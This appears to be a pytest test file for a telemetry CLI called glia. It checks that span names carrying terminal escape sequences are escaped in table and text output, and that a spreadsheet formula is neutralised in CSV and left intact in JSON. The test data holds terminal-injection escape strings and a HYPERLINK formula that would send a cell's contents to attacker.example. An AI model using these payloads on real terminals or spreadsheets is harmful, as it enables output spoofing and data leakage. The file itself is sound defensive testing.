"""A span whose names carry terminal escapes and a spreadsheet formula, stored through the receiver and printed by
the real `glia runs` / `glia show` commands: escaped in the table and the text, neutralised in CSV, intact in JSON."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time

import pytest

from tests.conftest import REPO, ReceiverServer
from tests.helpers import MS, RUN, SPAN_A, otlp_span, post_spans

NAME = "\x1b]0;owned\x07\x1b[2J\x9b31mrun\u202eevil"
SERVICE = '=HYPERLINK("http://attacker.example/?"&A1,"click me")'
ESCAPING_SERVICE = "\x1b[31mred-svc\x1b]8;;http://x\x1b\\"
OTHER_RUN = "2" * 16
RAW = ["\x1b", "\x07", "\x9b", "\u202e"]


def glia(database_url: str, *argv: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "glia_otel._cli", *argv, "--database-url", database_url],
        capture_output=True,
        text=True,
        cwd=REPO,
        env=os.environ.copy(),
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


@pytest.fixture
def hostile_run(receiver: ReceiverServer) -> None:
    t0 = time.time_ns()
    post_spans(
        receiver,
        otlp_span(RUN, None, NAME, t0, note="\x1b[8mhidden\u202e"),
        otlp_span(SPAN_A, RUN, "\x1b]0;child\x07", t0 + 1 * MS),
        service=SERVICE,
    )
    post_spans(receiver, otlp_span(OTHER_RUN, None, "plain", t0 - 10**9), service=ESCAPING_SERVICE)


@pytest.mark.usefixtures("hostile_run")
def test_table_and_show_escape_what_a_client_sent(database_url: str) -> None:
    table = glia(database_url, "runs")
    assert not any(c in table for c in RAW), repr(table)
    assert '=HYPERLINK("http://attacker.example/?"&A1,"click me")' in table  # shown as the text it is
    assert "\\x1b[31mred-svc\\x1b]8;;http://x\\x1b\\" in table

    text = glia(database_url, "show", RUN)
    assert not any(c in text for c in RAW), repr(text)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x9b31mrun\\u202eevil" in text
    assert "\\x1b]0;child\\x07" in text  # the child span's name


@pytest.mark.usefixtures("hostile_run")
def test_csv_neutralises_the_formula_and_json_keeps_the_text(database_url: str) -> None:
    out = glia(database_url, "runs", "--format", "csv")
    assert not any(c in out for c in RAW), repr(out)
    by_id = {r["run_id"]: r for r in csv.DictReader(io.StringIO(out))}
    row, other = by_id[RUN], by_id[OTHER_RUN]
    assert other["program_name"] == "\\x1b[31mred-svc\\x1b]8;;http://x\\x1b\\"
    assert row["program_name"] == "'" + SERVICE
    assert row["run_name"] == "\\x1b]0;owned\\x07\\x1b[2J\\x9b31mrun\\u202eevil"
    assert json.loads(row["attributes"]) == {"note": "\x1b[8mhidden\u202e"}

    for argv in (["runs", "--format", "json"], ["show", RUN, "--format", "json"]):
        out = glia(database_url, *argv)
        assert not any(c in out for c in RAW), repr(out)
        value = json.loads(out)
        run = next(r for r in value if r["run_id"] == RUN) if isinstance(value, list) else value
        assert run["run_name"] == NAME and run["program_name"] == SERVICE  # JSON escapes, and loses nothing
